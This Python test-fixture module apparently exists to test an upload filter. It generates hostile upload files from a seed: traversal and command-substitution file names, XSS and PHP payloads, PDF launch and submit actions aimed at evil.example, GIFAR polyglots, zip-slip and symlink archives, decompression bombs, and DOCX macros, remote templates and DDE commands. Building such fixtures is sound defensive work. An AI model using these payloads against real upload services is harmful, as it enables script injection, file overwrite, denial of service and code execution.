"""Hostile uploads, made from a number: the same number makes the same file.

Each is refused wherever it is sent. The families are those of the abuse cases 60 to 62.
"""

from __future__ import annotations

import io
import random
import stat
import struct
import zipfile
import zlib
from base64 import a85encode
from collections.abc import Callable

from . import samples
from .samples import archive, box, chunk, docx, gif, jpeg, mp4, png, segment, webm, webp

Maker = Callable[[random.Random], bytes]
NAMES = (
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\x.pdf",
    "/etc/shadow",
    "invoice\u202efdp.exe",
    "a\0b.pdf",
    "proof.pdf\r\nSet-Cookie: session=1",
    'x"; filename="y.html',
    "con.pdf",
    ".htaccess",
    "~/.ssh/authorized_keys",
    "proof.pdf.html",
    "<script>alert(1)</script>.png",
    "a" * 5000 + ".pdf",
    "\ud800.pdf",
    "%2e%2e%2fx",
    "proof.svg",
    "",
    ".",
    "…",
    "file:///etc/passwd",
    "\u200b\u2066x\u2069.pdf",
    "proof.pdf;.jsp",
    "$(reboot).zip",
    "`id`.txt",
)


def _script(r: random.Random) -> bytes:
    number = str(r.randrange(10**9)).encode()
    return r.choice(
        [
            b"<script>alert(%s)</script>" % number,
            b"<SCRIPT SRC=//evil.example/%s></SCRIPT>" % number,
            b"<svg xmlns='http://www.w3.org/2000/svg' onload=alert(%s)>" % number,
            b"<html><body onload=fetch('/%s')>" % number,
            b"<iframe src=javascript:alert(%s)>" % number,
            b"<?php system('%s'); ?>" % number,
        ]
    )


def _noise(r: random.Random, most: int = 400) -> bytes:
    return r.randbytes(r.randrange(1, most))


def _words(r: random.Random) -> bytes:
    return bytes(r.choices(b"abcdefghij \n", k=r.randrange(1, 300)))


# Pages and programs --------------------------------------------------------------------------------


def page(r: random.Random) -> bytes:
    front = r.choice([b"", b"\xef\xbb\xbf", b"\n\n  \t", b"<!-- -->", b"<?xml version='1.0'?>\n"])
    return front + r.choice([b"", b"<!DOCTYPE html>", b"<html>"]) + _script(r) + _words(r)


def program(r: random.Random) -> bytes:
    heads = [
        b"MZ\x90\0\3",
        b"\x7fELF\2\1\1",
        b"\xca\xfe\xba\xbe\0\0\0\x34",
        b"\xcf\xfa\xed\xfe",
        b"\xd0\xcf\x11\xe0",
    ]
    return r.choice(heads) + b"\0" + _noise(r)


def other_archive(r: random.Random) -> bytes:
    heads = [
        b"Rar!\x1a\x07\1\0",
        b"7z\xbc\xaf\x27\x1c",
        b"\x1f\x8b\x08\0",
        b"BZh91AY&SY\0",
        b"\xfd7zXZ\0\0",
        b"MSCF\0",
    ]
    return r.choice(heads) + b"\0\xff" + _noise(r)


def control(r: random.Random) -> bytes:
    return _words(r) + r.choice([b"\0", b"\x1b]0;x\x07", b"\xff\xfe", b"\xc0\xaf", b"\x80"]) + _words(r)


# Two things at once --------------------------------------------------------------------------------


def image_and_archive(r: random.Random) -> bytes:
    """GIFAR and its kin: a picture from the front, an archive (of classes) from the back."""
    jar = archive({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": _noise(r)})
    return r.choice([gif(), png(), jpeg(), webp(), samples.PDF, mp4(), webm(), webm(open_end=True)]) + jar


def image_and_page(r: random.Random) -> bytes:
    return r.choice([gif(), png(), jpeg(), webp(), mp4()]) + _script(r)


def page_in_picture(r: random.Random) -> bytes:
    script = _words(r) + _script(r)
    return r.choice(
        [
            jpeg(segment(0xFE, script)),
            jpeg(segment(0xE1, b"Exif\0\0" + script)),
            jpeg() + jpeg(segment(0xFE, script)),
            png(chunk(b"tEXt", b"Comment\0" + script)),
            png(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(script))),
            png(chunk(b"iTXt", b"Comment\0\1\0\0\0" + zlib.compress(script))),
            png(chunk(b"iTXt", b"Comment\0\0\0\0\0" + script)),
            gif(b"\x21\xfe" + bytes([len(script[-255:])]) + script[-255:] + b"\0"),
        ]
    )


def page_in_film(r: random.Random) -> bytes:
    script = _words(r) + _script(r)
    return r.choice([mp4(box(b"udta", script)), mp4(box(b"free", script)), mp4(box(b"uuid", script))])


def pdf_in_picture(r: random.Random) -> bytes:
    hidden = b"%PDF-1.7 " + _words(r)
    return r.choice(
        [jpeg(segment(0xFE, hidden)), png(chunk(b"tEXt", b"C\0" + hidden)), gif(b"\x21\xfe\x09%PDF-1.7 \0")]
    )


def archive_in_front(r: random.Random) -> bytes:
    """An archive with something before its first member, or after its last."""
    return r.choice([samples.archive() + _noise(r), b"PK\3\4" + _noise(r) + samples.archive()])


# PDF -----------------------------------------------------------------------------------------------

ACTIONS = (
    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    b"/AA << /O << /S /#4aavaScript /#4aS (x) >> >>",
    b"/OpenAction << /S /Launch /F (cmd.exe) >>",
    b"/Names << /EmbeddedFiles << /Names [] >> >>",
    b"/AcroForm << /XFA [] >>",
    b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
    b"/OpenAction << /S /GoToE >>",
    b"/Names << /Java#53cript 5 0 R >>",
    b"/Annots [ << /Subtype /RichMedia >> ]",
)


def _pdf(body: bytes, trailer: bytes = b"") -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer\n<< /Root 1 0 R " + trailer + b" >>\n%%EOF\n"


def _stream(about: bytes, data: bytes) -> bytes:
    return b"4 0 obj\n<< " + about + b" >>\nstream\n" + data + b"\nendstream\nendobj\n"


def pdf_action(r: random.Random) -> bytes:
    action = r.choice(ACTIONS)
    plain = b"1 0 obj\n<< /Type /Catalog " + action + b" >>\nendobj\n"
    objects = b"/Type /ObjStm /N 1 /First 4"
    packed = b"/Filter /FlateDecode"
    # Words that hide the objects behind them from one who looks for streams only.
    comment = b"% stream\n" + plain + b"% endstream\n"
    deep = b"1 0 << /Type /Catalog " + action + b" >>"
    made = [_pdf(plain), _pdf(_stream(objects + packed, zlib.compress(deep))), _pdf(_stream(objects, deep))]
    if b"Script" in action or b"#" in action or b"Launch" in action or b"Submit" in action:
        made.append(_pdf(comment))
    return r.choice(made)


def pdf_disguised(r: random.Random) -> bytes:
    """Objects, or far too much, in a packing that only some readers undo, or that is named where few look."""
    deep = b"1 0 << /Type /Catalog " + r.choice(ACTIONS) + b" >>"
    objects = b"/Type /ObjStm /N 1 /First 4 "
    flat, large = zlib.compress(deep), zlib.compress(bytes(5_000_000))
    return _pdf(
        r.choice(
            [
                _stream(objects + b"/Filter /ASCIIHexDecode", deep.hex().encode() + b">"),
                _stream(objects + b"/Filter /ASCII85Decode", a85encode(deep) + b"~>"),
                _stream(objects + b"/Filter [ /ASCIIHexDecode /FlateDecode ]", flat.hex().encode() + b">"),
                _stream(objects + b"/Filter /LZWDecode", flat),
                _stream(objects + b"/Filter 6 0 R", flat),
                _stream(objects + b"/Filter %]\n [ /FlateDecode ]", flat),
                _stream(objects + b"/Filter [ %\n /FlateDecode ]", flat),
                _stream(b"/Filter 6 0 R", large),
                _stream(b"/Filter [ /ASCIIHexDecode /FlateDecode ]", large.hex().encode() + b">"),
            ]
        )
    )


def pdf_locked(r: random.Random) -> bytes:
    return _pdf(_words(r).replace(b"stream", b""), b"/Encrypt 9 0 R")


_TWICE = zlib.compress(zlib.compress(bytes(10_000_000)))


def pdf_bomb(r: random.Random) -> bytes:
    return _pdf(_stream(b"/Filter [/FlateDecode /FlateDecode] /N%d 1" % r.randrange(99), _TWICE))


def pdf_tail(r: random.Random) -> bytes:
    return samples.PDF + _script(r)


# Archives ------------------------------------------------------------------------------------------


def _with_entry(name: str, content: bytes, *, mode: int = 0, packed: bool = True) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as file:
        info = zipfile.ZipInfo(name)
        info.create_system, info.external_attr = 3, mode << 16
        info.compress_type = file.compression
        file.writestr("README.md", b"# Work\n")
        file.writestr(info, content)
    return made.getvalue()


def archive_path(r: random.Random) -> bytes:
    bad = [
        "../x",
        "a/../../x",
        "/etc/passwd",
        "C:/x",
        "a\\..\\b",
        "x\u202egpj.exe",
        "a//b",
        "nul.txt",
        "a\nb",
        "README.MD",
    ]
    return _with_entry(r.choice(bad), _words(r))


def archive_link(r: random.Random) -> bytes:
    kind = r.choice([stat.S_IFLNK, stat.S_IFCHR, stat.S_IFIFO, stat.S_IFSOCK, stat.S_IFBLK])
    return _with_entry("link", b"/etc/passwd", mode=kind | 0o777, packed=False)


def archive_nested(r: random.Random) -> bytes:
    inner = r.choice([archive(), other_archive(r)])
    return _with_entry(f"more{r.randrange(99)}.bin", inner, packed=r.random() < 0.5)


_ZEROS = zlib.compressobj(9, zlib.DEFLATED, -15)
_BOMB = _ZEROS.compress(bytes(60_000_000)) + _ZEROS.flush()


def archive_bomb(r: random.Random) -> bytes:
    """60 MB in 60 kB; or the same that says it were 10 bytes; or members that share their data."""
    kind = r.randrange(3)
    size = (60_000_000, r.randrange(10, 1000), 1000)[kind]
    name = b"zeros"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(_BOMB), size, len(name), 0) + name
    entry = struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(_BOMB), size, len(name), 0, 0, 0, 0, 0, 0
    )
    listed = entry + name
    count = 1
    if kind == 2:
        listed, count = listed + entry + b"zerot", 2
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(listed), len(local) + len(_BOMB), 0)
    return local + _BOMB + listed + end


def archive_crowd(r: random.Random) -> bytes:
    """A last record that promises more members than anybody needs."""
    made = bytearray(archive())
    struct.pack_into("<HH", made, len(made) - 22 + 8, 0, r.randrange(21_000, 65_000))
    return bytes(made)


def archive_locked(r: random.Random) -> bytes:
    made = bytearray(archive())
    made[6] |= 1
    made[made.find(b"PK\1\2") + 8] |= 1
    return bytes(made)


def macros(r: random.Random) -> bytes:
    return r.choice(
        [
            docx(**{"word/vbaProject.bin": _noise(r)}),
            docx(**{"word/activeX/activeX1.xml": b"<x/>"}),
            docx(**{"word/settings.xml": b'<!DOCTYPE a [<!ENTITY b "bbbb">]>' + _words(r)}),
            docx(
                **{
                    "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                    b'TargetMode="External" Target="http://evil.example/"/>'
                }
            ),
            docx(**{"word/footer.xml": b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
        ]
    )


# Pictures and films that are not whole, or far too large -------------------------------------------


_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def office_disguised(r: random.Random) -> bytes:
    """What starts by itself in an office document, spelt otherwise or under another name."""
    where, what = r.choice(
        [
            (
                "word/_rels/document.xml.rels",
                f"<Relationship Type='{_RELATION}attachedTemplate' Target='x'/>",
            ),
            ("word/_rels/document.xml.rels", f"<Relationship Type='{_RELATION}oleObject' Target='x'/>"),
            ("word/_rels/document.xml.rels", f'<Relationship Type="{_RELATION}&#97;ttachedTemplate"/>'),
            ("word/settings.xml", '<w:fldSimple w:instr="DDE cmd x"/>'),
            ("word/footer1.xml", "<w:instrText xml:space='preserve'> DDE cmd x</w:instrText>"),
            (
                "xl/externalLinks/externalLink1.xml",
                "<externalLink><ddeLink ddeService='cmd'/></externalLink>",
            ),
            (
                "[Content_Types].xml",
                "<Types><Override ContentType='application/vnd.ms-office.vbaProject'/></Types>",
            ),
        ]
    )
    if r.random() < 0.3:
        wide = f'<!DOCTYPE a [<!ENTITY b "c">]>{what}'.encode("utf-16")
        return docx(**{"word/_rels/document.xml.rels": wide})
    if r.random() < 0.3:
        return docx(**{"word/media/picture1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _words(r)})
    return docx(**{where: what.encode()})


def pixel_bomb(r: random.Random) -> bytes:
    """A small picture whose pixels unpack to far more."""
    many = chunk(b"IDAT", zlib.compress(bytes(r.randrange(1_000_000, 3_000_000))))
    return png().replace(chunk(b"IDAT", zlib.compress(b"\0\1\2" * 2)), many)


def image_bomb(r: random.Random) -> bytes:
    side = r.randrange(20_000, 65_000)
    return r.choice(
        [png(width=side, height=side), jpeg(width=side, height=side), gif(width=side, height=side)]
    )


_MUCH_TEXT = zlib.compress(b"a" * 5_000_000)


def text_bomb(r: random.Random) -> bytes:
    return png(chunk(b"zTXt", b"Comment%d\0\0" % r.randrange(99) + _MUCH_TEXT))


def cut(r: random.Random) -> bytes:
    whole = r.choice([png(), jpeg(), gif(), mp4(), webm(), archive(), samples.PDF.rstrip()])
    return whole[: r.randrange(13, len(whole) - 3)]


def flipped(r: random.Random) -> bytes:
    """A bit turned where sums are kept."""
    whole = bytearray(r.choice([png(), png(chunk(b"tEXt", b"a\0" + _words(r)))]))
    whole[r.randrange(12, len(whole) - 4)] ^= 1 << r.randrange(8)
    return bytes(whole)


def foreign_film(r: random.Random) -> bytes:
    return r.choice(
        [
            mp4(box(b"evil", _noise(r))),
            mp4() + _noise(r),
            box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", b"\0" * 9),
            webm(doctype=b"evil"),
            webm() + _noise(r),
        ]
    )


FAMILIES: tuple[Maker, ...] = (
    page,
    program,
    other_archive,
    control,
    image_and_archive,
    image_and_page,
    page_in_picture,
    page_in_film,
    pdf_in_picture,
    archive_in_front,
    pdf_action,
    pdf_disguised,
    pdf_locked,
    pdf_bomb,
    pdf_tail,
    archive_path,
    archive_link,
    archive_nested,
    archive_bomb,
    archive_crowd,
    archive_locked,
    macros,
    office_disguised,
    image_bomb,
    pixel_bomb,
    text_bomb,
    cut,
    flipped,
    foreign_film,
)


def make(number: int) -> tuple[str, str, bytes]:
    """One hostile file: its family, its name and its content."""
    r = random.Random(number)
    family = FAMILIES[number % len(FAMILIES)]
    return family.__name__, NAMES[number % len(NAMES)], family(r)
